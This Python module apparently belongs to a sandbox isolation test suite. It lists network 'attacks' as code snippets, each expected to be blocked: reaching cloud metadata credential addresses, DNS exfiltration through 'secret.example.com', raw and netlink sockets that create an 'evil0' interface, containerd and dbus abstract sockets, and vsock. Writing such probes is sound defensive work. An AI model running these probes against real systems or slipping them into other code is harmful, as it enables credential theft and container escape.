"""Reaching anything by a network, or by what the kernel offers in its place."""

from __future__ import annotations

from .attack import Attack

ATTACKS = (
    Attack(
        "network.metadata",
        "connect to the addresses at which clouds hand out credentials",
        """
def connect(family, address):
    with socket.socket(family) as s:
        s.settimeout(3)
        s.connect(address)
for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192"):
    attempt("connect to " + address, lambda: connect(socket.AF_INET, (address, 80)), *NO_NETWORK)
attempt("connect to fd00:ec2::254", lambda: connect(socket.AF_INET6, ("fd00:ec2::254", 80)), *NO_NETWORK)
""",
        needs="network",
    ),
    Attack(
        "network.outside",
        "connect to the internet over TCP",
        """
def connect(address, port):
    with socket.create_connection((address, port), 3):
        pass
for address, port in (("1.1.1.1", 443), ("8.8.8.8", 53), ("192.0.2.1", 9), ("2606:4700:4700::1111", 443)):
    attempt(f"connect to {address}", lambda: connect(address, port), *NO_NETWORK)
""",
        needs="network",
    ),
    Attack(
        "network.host",
        "connect to a service of the machine outside, at each of its addresses",
        """
where = target()
def connect(address):
    with socket.create_connection((address, where["tcp"]), 3) as s:
        return s.recv(100)
for address in where["addresses"]:
    attempt(f"connect to {address}", lambda: connect(address), *NO_NETWORK, errno.ECONNREFUSED)
for name in ("host.docker.internal", "gateway.docker.internal", "host.containers.internal"):
    attempt(f"connect to {name}", lambda: connect(name), *NO_NETWORK, socket.EAI_AGAIN, socket.EAI_NONAME,
            socket.EAI_FAIL, socket.EAI_NODATA)
""",
        needs="network",
    ),
    Attack(
        "network.udp",
        "send datagrams to the machine outside and beyond",
        """
where = target()
def send(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        return s.sendto(b"knock", (address, port))
for address in [a for a in where["addresses"] if not a.startswith("127.")] + ["8.8.8.8", "255.255.255.255"]:
    attempt(f"send to {address}", lambda: send(address, where["udp"]), *NO_NETWORK)
try:  # what is sent to a loopback of its own is lost, and the decoy would tell of it otherwise
    say("sent to 127.0.0.1:", send("127.0.0.1", where["udp"]))
except OSError as error:
    say("refused:", error)
""",
        needs="network",
    ),
    Attack(
        "network.dns",
        "carry something out in the names that are looked up",
        """
import select
for name in ("secret.example.com", "metadata.google.internal"):
    attempt(f"look up {name}", lambda: socket.getaddrinfo(name, 80), socket.EAI_AGAIN, socket.EAI_NONAME,
            socket.EAI_FAIL, socket.EAI_NODATA, socket.EAI_SYSTEM)
servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")] \\
    if os.path.exists("/etc/resolv.conf") else []
question = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3com\\0\\0\\1\\0\\1"
def ask(server):
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(question, (server, 53))
        return s.recv(512)
for server in servers + ["127.0.0.11", "127.0.0.53"]:
    attempt(f"ask {server}", lambda: ask(server), *NO_NETWORK, errno.ECONNREFUSED)
""",
        needs="network",
    ),
    Attack(
        "network.interfaces",
        "find an interface or a route that leads out",
        """
try:
    names = [name for _, name in socket.if_nameindex()]
except OSError as error:
    names = []
names += [line.split(":")[0].strip() for line in open("/proc/net/dev").readlines()[2:]]
# What the kernel puts into every network namespace by itself leads nowhere while it is down.
inert = {"lo", "tunl0", "sit0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6gre0"}
for name in set(names) - inert:
    got("an interface", name)
for line in open("/proc/net/route").readlines()[1:]:
    got("a route", line)
""",
        needs="network",
    ),
    Attack(
        "network.raw",
        "send and read raw packets",
        """
def packet(kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as s:
        return s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("169.254.169.254", 0))
attempt("a raw ICMP socket", lambda: packet(socket.SOCK_RAW, socket.IPPROTO_ICMP), *NO_NETWORK)
attempt("a raw IP socket", lambda: packet(socket.SOCK_RAW, socket.IPPROTO_RAW), *NO_NETWORK)
attempt("a ping socket", lambda: packet(socket.SOCK_DGRAM, socket.IPPROTO_ICMP), *NO_NETWORK)
attempt("AF_PACKET, raw", lambda: socket.socket(17, socket.SOCK_RAW, socket.htons(3)).fileno(), *NO_NETWORK)
attempt("AF_PACKET, cooked", lambda: socket.socket(17, socket.SOCK_DGRAM, socket.htons(3)).fileno(), *NO_NETWORK)
""",
    ),
    Attack(
        "network.netlink",
        "make an interface, an address or a rule through netlink",
        """
NLM = struct.Struct("=IHHII")
def request(protocol, kind, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as s:
        s.settimeout(3)
        s.bind((0, 0))
        s.send(NLM.pack(16 + len(body), kind, 0x605, 1, 0) + body)
        answer = s.recv(65536)
        if NLM.unpack_from(answer)[1] == 2:
            code = -struct.unpack_from("=i", answer, 16)[0]
            if code:
                raise OSError(code, os.strerror(code))
        return answer[:40]
def attribute(kind, value):
    return struct.pack("=HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)
link = struct.pack("=BBHiII", 0, 0, 0, 0, 1, 1) + attribute(3, b"evil0\\0") + attribute(18, attribute(1, b"dummy"))
attempt("make an interface", lambda: request(0, 16, link), *NO_NETWORK)
address = struct.pack("=BBBBi", 2, 8, 0, 0, 1) + attribute(2, socket.inet_aton("127.9.9.9"))
attempt("add an address", lambda: request(0, 20, address), *NO_NETWORK)
attempt("talk to the audit system", lambda: request(9, 1000, bytes(4)), *NO_NETWORK, errno.ECONNREFUSED)
def listen(protocol, groups):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as s:
        s.bind((0, groups))
attempt("listen to process events", lambda: listen(11, 1), *NO_NETWORK, errno.ENOENT)
""",
    ),
    Attack(
        "network.abstract",
        "talk to abstract Unix sockets, which live in no folder",
        """
names = [line.split(None, 7)[7].strip() for line in open("/proc/net/unix").readlines()[1:] if len(line.split()) > 7]
names = {name for name in names if name.startswith("@")} | {"@" + target()["abstract"], "@/containerd-shim", "@dbus"}
def connect(name):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(2)
        s.connect(name.replace("@", "\\0", 1))
        return s.recv(100)
for name in names:
    attempt(f"connect to {name}", lambda: connect(name), errno.ECONNREFUSED, errno.ENOENT)
""",
        needs="network",
    ),
    Attack(
        "network.vsock",
        "open a socket to the hypervisor, which no network namespace holds",
        """
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    attempt("AF_VSOCK", lambda: socket.socket(40, kind).fileno(), *NO_NETWORK, errno.ENODEV)
""",
    ),
    Attack(
        "network.exotic",
        "have the kernel load protocols that nothing here needs",
        """
families = {"AX25": 3, "IPX": 4, "X25": 9, "KEY": 15, "RDS": 21, "LLC": 26, "IB": 27, "CAN": 29, "TIPC": 30,
            "BLUETOOTH": 31, "RXRPC": 33, "PHONET": 35, "CAIF": 37, "ALG": 38, "NFC": 39, "KCM": 41, "QIPCRTR": 42,
            "SMC": 43, "XDP": 44, "MCTP": 45}
for name, family in families.items():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        attempt(f"AF_{name}", lambda: socket.socket(family, kind).fileno(), *NO_NETWORK, errno.EINVAL)
attempt("SCTP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).fileno(), *NO_NETWORK)
attempt("DCCP", lambda: socket.socket(socket.AF_INET, 6, 33).fileno(), *NO_NETWORK, errno.EINVAL)
""",
    ),
)
